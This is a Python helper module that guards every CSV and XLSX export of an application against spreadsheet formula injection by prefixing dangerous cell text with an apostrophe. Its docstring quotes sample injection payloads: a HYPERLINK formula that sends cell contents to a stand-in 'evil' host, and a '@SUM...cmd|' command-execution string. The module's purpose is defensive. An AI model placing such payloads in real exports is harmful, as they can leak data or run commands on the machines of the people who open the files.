"""Every CSV and XLSX export writes its cells through here, so no cell is run as a spreadsheet formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and a leading tab or carriage return
is dropped before it looks), so a guest named `=HYPERLINK("http://evil/?"&A1)` or a reason like `@SUM(1+1)*cmd|...`
would run on the machine of whoever opens the export. `safe_cell` prefixes such text with an apostrophe: shown as
typed, never evaluated. Numbers stay numbers (only text is changed), and so does text that is only a signed number
or a (masked) phone number such as `-5`, `+79161234567` or `+7 916 ***-**-67`: without letters, quotes or
references it cannot call a function or read a cell.
"""

from __future__ import annotations

import csv
import datetime
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER_OR_PHONE = re.compile(r"[+-][0-9 ().*-]*[0-9*][0-9 ().*-]*")


def safe_cell(value: Any) -> Any:
    """The value to write into a spreadsheet cell: text a spreadsheet would run gets a leading apostrophe."""
    if value is None or isinstance(value, (int, float, Decimal, datetime.date, datetime.time)):
        return value
    text = str(value)  # lazy translations, dicts of an audit entry's changes: as the CSV writer would show them
    if not text.startswith(FORMULA_STARTS) or _SIGNED_NUMBER_OR_PHONE.fullmatch(text):
        return text
    return "'" + text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class _Echo:
    """csv.writer writes into this and gets the line back, so rows can be streamed one by one."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """One CSV line per row, every cell through safe_cell (for streaming responses)."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow(safe_row(row))


def write_csv_rows(out: Any, rows: Iterable[Iterable[Any]]) -> None:
    """Write rows to a file-like object as CSV, every cell through safe_cell."""
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(safe_row(row))


def append_xlsx_row(sheet: Any, values: Iterable[Any]) -> None:
    """openpyxl's sheet.append with every cell through safe_cell (openpyxl stores text starting with = as a
    formula)."""
    sheet.append(safe_row(values))
